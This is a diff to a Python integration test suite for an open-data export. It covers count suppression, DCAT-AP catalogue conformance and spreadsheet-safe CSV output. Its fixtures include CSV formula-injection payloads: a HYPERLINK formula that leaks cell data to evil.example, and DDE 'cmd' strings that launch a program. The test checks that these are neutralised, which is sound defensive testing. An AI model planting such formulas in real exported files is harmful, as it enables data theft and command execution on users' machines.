@@ -19,12 +19,21 @@ from typing import Any
 import pyarrow.parquet as pq
 import pytest
 import sqlalchemy as sa
+from rdflib import URIRef
+from rdflib.namespace import RDF
 
 from schemas.catalog import DATASETS, Dataset, get_dataset
 from sinks.open_data import CATALOG_FILE, ExportReport, export_open_data
 from sinks.shared_repo import SharedRepoSink, create_repo_engine
 
 sys.path.insert(0, str(Path(__file__).parents[1]))
+from standards import (
+    DCAT_AP,
+    DCAT_AP_MANDATORY,
+    DCAT_AP_RECOMMENDED,
+    jsonld_graph,
+    shacl_results,
+)
 from std_samples import SIMULATED, sink_records, std_events
 
 pytestmark = pytest.mark.integration
@@ -51,12 +60,35 @@ def _deleted_schools() -> list[dict[str, Any]]:
     return out
 
 
+# Text a source system let through that a spreadsheet would run as a formula (OWASP).
+HOSTILE = {
+    "school_name": '=HYPERLINK("http://evil.example/?"&A1,"Xem điểm")',
+    "address": "+cmd|' /C calc'!A0",
+    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _hostile_schools() -> list[dict[str, Any]]:
+    """Updates of three live schools whose text fields hold formulas."""
+    events = std_events(SCHOOLS.id)
+    out = []
+    for ev in events[10:13]:
+        d = copy.deepcopy(ev)
+        d.update(op="u", before=ev["after"], event_id=uuid.UUID(int=100 + len(out)))
+        d["after"] = {**ev["after"], **HOSTILE}
+        d["source"]["version"] = ev["source"]["version"] + 10
+        out.append(d)
+    return out
+
+
 def _fill(engine: sa.Engine, db_schema: str | None) -> None:
     sink = SharedRepoSink(engine, db_schema=db_schema)
     sink.setup()
     for dataset_id in SIMULATED:
         assert sink.write(sink_records(dataset_id, std_events(dataset_id))) == []
     assert sink.write(sink_records(SCHOOLS.id, _deleted_schools())) == []
+    assert sink.write(sink_records(SCHOOLS.id, _hostile_schools())) == []
 
 
 @pytest.fixture(scope="module")
@@ -94,11 +126,12 @@ def _export(repo: tuple[sa.Engine, str | None], out: Path, **kw: Any) -> ExportR
 
 
 def _dataset_of(file_name: str) -> str:
-    return file_name.rsplit(".", 1)[0].removesuffix(".by_commune")
+    return file_name.rsplit(".", 1)[0].removesuffix(".by_commune").removesuffix(".by_province")
 
 
 def _read_csv(path: Path) -> list[dict[str, str]]:
-    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
+    """As a spreadsheet user gets it: UTF-8 behind its BOM, RFC 4180."""
+    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
 
 
 def test_only_public_datasets_are_exported(
@@ -145,23 +178,81 @@ def test_personal_fields_never_reach_a_file(
     assert "teacher_id" in header
 
 
-def test_small_counts_are_suppressed(repo: tuple[sa.Engine, str | None], tmp_path: Path) -> None:
+def test_small_counts_are_suppressed_at_the_finest_level_that_says_something(
+    repo: tuple[sa.Engine, str | None], tmp_path: Path
+) -> None:
+    """On the simulators' data: schools per commune (most cells suppressed, not all);
+    health facilities, where every commune has fewer than 5, for the province."""
     report = _export(repo, tmp_path)
-    for stem in ("education.schools", "health.facilities"):
+    levels = {d.dataset_id: d.aggregate_level for d in report.datasets}
+    assert levels["education.schools"] == "commune"
+    assert levels["health.facilities"] == "province"
+    assert not (tmp_path / "health.facilities.by_commune.csv").exists()
+    for stem, level in levels.items():
+        if level is None:
+            continue
         rows = _read_csv(tmp_path / f"{stem}.csv")
-        truth = Counter(r["commune_code"] for r in rows)
-        cells = _read_csv(tmp_path / f"{stem}.by_commune.csv")
-        assert [c["commune_code"] for c in cells] == sorted(truth)
+        if level == "commune":
+            truth = Counter(r["commune_code"] for r in rows)
+            assert max(truth.values()) >= 5
+        else:
+            assert max(Counter(r["commune_code"] for r in rows).values()) < 5
+            truth = Counter({"75": len(rows)})
+        cells = _read_csv(tmp_path / f"{stem}.by_{level}.csv")
+        assert list(cells[0]) == [f"{level}_code", f"{level}_name", "count", "suppressed"]
+        assert [c[f"{level}_code"] for c in cells] == sorted(truth)
+        assert all(c[f"{level}_name"] for c in cells)
         for cell in cells:
-            n = truth[cell["commune_code"]]
+            n = truth[cell[f"{level}_code"]]
             if n < 5:
                 assert (cell["count"], cell["suppressed"]) == ("", "true")
             else:
                 assert (cell["count"], cell["suppressed"]) == (str(n), "false")
-        parquet = pq.read_table(tmp_path / f"{stem}.by_commune.parquet").to_pylist()
+        # never 100 % suppressed: something is published
+        assert any(c["suppressed"] == "false" for c in cells), stem
+        parquet = pq.read_table(tmp_path / f"{stem}.by_{level}.parquet").to_pylist()
         assert all(p["count"] is None or p["count"] >= 5 for p in parquet)
         exported = next(d for d in report.datasets if d.dataset_id == stem)
-        assert exported.suppressed_cells == sum(1 for c in cells if c["suppressed"] == "true") > 0
+        assert exported.suppressed_cells == sum(1 for c in cells if c["suppressed"] == "true")
+    # the catalogue says why the facilities are counted for the province
+    doc = json.loads((tmp_path / CATALOG_FILE).read_text(encoding="utf-8"))
+    by_id = {d["dct:identifier"]: d for d in doc["dcat:dataset"]}
+    description = {
+        t["@language"]: t["@value"]
+        for t in by_id["health.facilities.by_province"]["dct:description"]
+    }
+    assert "Every per-commune count was below 5" in description["en"]
+    assert "cấp tỉnh" in description["vi"]
+
+
+def test_csv_files_are_safe_and_readable_in_a_spreadsheet(
+    repo: tuple[sa.Engine, str | None], tmp_path: Path
+) -> None:
+    _export(repo, tmp_path)
+    csv_files = sorted(tmp_path.glob("*.csv"))
+    assert csv_files
+    for path in csv_files:
+        data = path.read_bytes()
+        assert data.startswith(b"\xef\xbb\xbf"), path.name  # UTF-8 BOM: Excel reads it
+        assert b"\r\n" in data and b"\n" not in data.replace(b"\r\n", b"")
+        rows = _read_csv(path)
+        assert rows, path.name
+        # internal quality fields never reach a public file
+        assert not {"quality_flags", "commune_code_source"} & set(rows[0]), path.name
+        for row in rows:
+            for column, cell in row.items():
+                assert not cell.startswith(FORMULA_START), (path.name, column, cell)
+    schools = {r["school_id"]: r for r in _read_csv(tmp_path / "education.schools.csv")}
+    hostile = [s for s in schools.values() if s["school_name"] == "'" + HOSTILE["school_name"]]
+    assert len(hostile) == 3
+    for school in hostile:
+        assert school["address"] == "'" + HOSTILE["address"]
+        assert school["email"] == "'" + HOSTILE["email"]
+    assert any("ư" in s["school_name"] for s in schools.values())  # Vietnamese, not mojibake
+    # Parquet keeps the values as they are: it is read by programs, not spreadsheets
+    table = pq.read_table(tmp_path / "education.schools.parquet").to_pylist()
+    assert sum(1 for r in table if r["school_name"] == HOSTILE["school_name"]) == 3
+    assert "quality_flags" not in table[0]
 
 
 def test_export_is_reproducible_byte_for_byte(
@@ -194,13 +285,13 @@ def test_dcat_catalog_describes_the_files(
     assert {"dcat", "dct", "spdx"} <= set(doc["@context"])
     datasets = {d["dct:identifier"]: d for d in doc["dcat:dataset"]}
     assert set(PUBLIC) <= set(datasets)
-    assert {"education.schools.by_commune", "health.facilities.by_commune"} <= set(datasets)
+    assert {"education.schools.by_commune", "health.facilities.by_province"} <= set(datasets)
     files = {p.name: p.read_bytes() for p in tmp_path.iterdir() if p.name != CATALOG_FILE}
     described = set()
     for ident, d in datasets.items():
         assert d["@type"] == "dcat:Dataset"
         assert {t["@language"] for t in d["dct:title"]} == {"vi", "en"}
-        assert d["dct:publisher"]["foaf:name"]
+        assert d["dct:publisher"]["foaf:name"]["@value"]
         assert d["dct:modified"]["@type"] == "xsd:dateTime"
         assert d["dct:license"]["@id"].startswith("https://")
         for dist in d["dcat:distribution"]:
@@ -210,16 +301,42 @@ def test_dcat_catalog_describes_the_files(
             data = files[name]
             described.add(name)
             assert dist["dcat:byteSize"]["@value"] == str(len(data))
-            assert dist["spdx:checksum"]["spdx:checksumValue"] == hashlib.sha256(data).hexdigest()
+            checksum = dist["spdx:checksum"]["spdx:checksumValue"]
+            assert checksum == {
+                "@value": hashlib.sha256(data).hexdigest(),
+                "@type": "xsd:hexBinary",
+            }
             media = dist["dcat:mediaType"]["@id"]
             assert media.endswith("text/csv" if name.endswith(".csv") else "vnd.apache.parquet")
-        assert ident.split(".by_commune")[0] in PUBLIC
+        assert _dataset_of(ident + ".x") in PUBLIC
     assert described == set(files)
     schools = datasets["education.schools"]
-    assert schools["dct:publisher"]["foaf:name"] == "Sở Giáo dục và Đào tạo"
+    assert schools["dct:publisher"]["foaf:name"]["@value"] == "Sở Giáo dục và Đào tạo"
     assert (
         report.catalog.sha256 == hashlib.sha256((tmp_path / CATALOG_FILE).read_bytes()).hexdigest()
     )
+
+
+@pytest.mark.skipif(
+    not all((DCAT_AP / f).is_file() for f in (*DCAT_AP_MANDATORY, *DCAT_AP_RECOMMENDED)),
+    reason=f"DCAT-AP 3.0.1 SHACL shapes not found in {DCAT_AP} (../shared/standards)",
+)
+def test_the_exported_catalogue_conforms_to_dcat_ap_3(
+    repo: tuple[sa.Engine, str | None], tmp_path: Path
+) -> None:
+    """pyshacl against the DCAT-AP 3.0.1 shapes: no violation of the mandatory and range
+    shapes, no warning of the recommended ones."""
+    report = _export(repo, tmp_path, base_uri="https://data.example.gov.vn/open/")
+    graph = jsonld_graph((tmp_path / CATALOG_FILE).read_text(encoding="utf-8"))
+    dcat = "http://www.w3.org/ns/dcat#"
+    datasets = set(graph.subjects(RDF.type, URIRef(dcat + "Dataset")))
+    distributions = set(graph.subjects(RDF.type, URIRef(dcat + "Distribution")))
+    assert len(datasets) == len(report.datasets) + 2  # + the two aggregates
+    assert len(distributions) == len(report.files) - 1  # every file but the catalogue
+    mandatory = shacl_results(graph, DCAT_AP_MANDATORY)
+    assert mandatory == [], "\n".join(map(str, mandatory))
+    recommended = shacl_results(graph, DCAT_AP_RECOMMENDED)
+    assert recommended == [], "\n".join(map(str, recommended))
 
 
 def test_a_scheduled_export_serves_its_health_endpoints(tmp_path: Path) -> None:
